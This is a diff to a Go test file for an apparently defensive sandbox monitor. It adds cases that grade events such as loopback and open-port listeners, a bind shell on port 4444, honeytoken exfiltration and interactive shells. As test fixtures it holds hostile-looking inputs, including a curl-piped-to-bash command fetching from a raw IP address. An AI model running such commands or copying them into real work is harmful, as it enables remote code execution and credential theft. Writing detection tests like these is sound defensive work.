@@ -16,6 +16,9 @@ func planted(id, value, where string) moat.Event {
 
 const secret = "Q7hZk2mVfP9xLr4TnW8bYc3JdS6gHa1Ee5uKo0Ri"
 
+// hello3 is the hook's hello of pid 3.
+var hello3 = moat.Event{Source: "audit", Kind: "hello", PID: 3, Path: "/usr/bin/python3"}
+
 func TestAnalyze(t *testing.T) {
 	tok := planted("aws-secret-access-key", secret, "/home/sandbox/.aws/credentials")
 	netrc := planted("netrc-password", "n3trcS3cretValue0000", "/home/sandbox/.netrc")
@@ -32,6 +35,23 @@ func TestAnalyze(t *testing.T) {
 		{"token sent by the network sink", []moat.Event{tok, {Source: "network", Kind: "http", Addr: "1.2.3.4:80", Data: "POST /x\r\n\r\nk=" + secret}}, moat.CategoryExfiltration, "critical"},
 		{"token in a file written", []moat.Event{tok, {Source: "fs", Kind: "honeytoken-written", Path: "/work/x", Name: "aws-secret-access-key", Detail: "hex"}}, moat.CategoryExfiltration, "critical"},
 		{"shell reading stdin", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/bash", PID: 4}}, moat.CategoryExecution, "medium"},
+		// ports opened (session 23)
+		{"a test server on loopback", []moat.Event{hello3, {Source: "kernel", Kind: "listener", Name: "listen", Addr: "127.0.0.1:0", PID: 3, TimeMS: 10}}, moat.CategoryNetwork, ""},
+		{"a test server on loopback, no evasion", []moat.Event{hello3, {Source: "kernel", Kind: "listener", Name: "listen", Addr: "127.0.0.1:0", PID: 3, TimeMS: 10}}, moat.CategoryEvasion, ""},
+		{"a listen on every address", []moat.Event{{Source: "kernel", Kind: "listener", Name: "listen", Addr: "0.0.0.0:4444", PID: 3}}, moat.CategoryNetwork, "medium"},
+		{"a suite's server on every address, a port the kernel chose", []moat.Event{{Source: "kernel", Kind: "listener", Name: "listen", Addr: "[::]:0", PID: 3}}, moat.CategoryNetwork, "low"},
+		{"a listen of a socket not seen bound", []moat.Event{{Source: "kernel", Kind: "listener", Name: "listen", PID: 3}}, moat.CategoryNetwork, "medium"},
+		{"a UDP port bound on an interface", []moat.Event{{Source: "kernel", Kind: "listener", Name: "bind", Addr: "10.0.0.2:5005", PID: 3}}, moat.CategoryNetwork, "medium"},
+		{"the hook's bind, no kernel listen", []moat.Event{hello3, {Source: "audit", Kind: "listener", Name: "bind", Addr: "0.0.0.0:40001", PID: 3, TimeMS: 5}}, moat.CategoryNetwork, ""},
+		{"the hook's bind, no kernel witness", []moat.Event{hello3, {Source: "moat", Kind: "kernel-events-unavailable"},
+			{Source: "audit", Kind: "listener", Name: "bind", Addr: "0.0.0.0:4444", PID: 3, TimeMS: 5}}, moat.CategoryNetwork, "medium"},
+		{"a listen past the hook", []moat.Event{hello3, {Source: "kernel", Kind: "listener", Name: "listen", Addr: "0.0.0.0:4445", PID: 3, TimeMS: 10}}, moat.CategoryEvasion, "high"},
+		{"a listen the hook saw bound", []moat.Event{hello3, {Source: "audit", Kind: "listener", Name: "bind", Addr: "0.0.0.0:4444", PID: 3, TimeMS: 9},
+			{Source: "kernel", Kind: "listener", Name: "listen", Addr: "0.0.0.0:4444", PID: 3, TimeMS: 10}}, moat.CategoryEvasion, ""},
+		{"a bind shell, its stdio unnamed (gVisor)", []moat.Event{{Source: "kernel", Kind: "listener", Name: "listen", Addr: "0.0.0.0:4444", PID: 3, TimeMS: 10},
+			{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh", PID: 4, PPID: 3, TimeMS: 20}}, moat.CategoryExecution, "critical"},
+		{"a shell reading stdin after a loopback server", []moat.Event{{Source: "kernel", Kind: "listener", Name: "listen", Addr: "127.0.0.1:8000", PID: 3, TimeMS: 10},
+			{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh", PID: 4, PPID: 3, TimeMS: 20}}, moat.CategoryExecution, "medium"},
 		{"interactive shell", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/bash", Detail: "bash -i", PID: 4}}, moat.CategoryExecution, "high"},
 		{"a test that runs echo", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c echo hello", PID: 4}}, moat.CategoryExecution, "low"},
 		{"curl piped to a shell", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c curl -A O -o- -L http://39.107.154.72/env | bash -s", PID: 4}}, moat.CategoryExecution, "critical"},
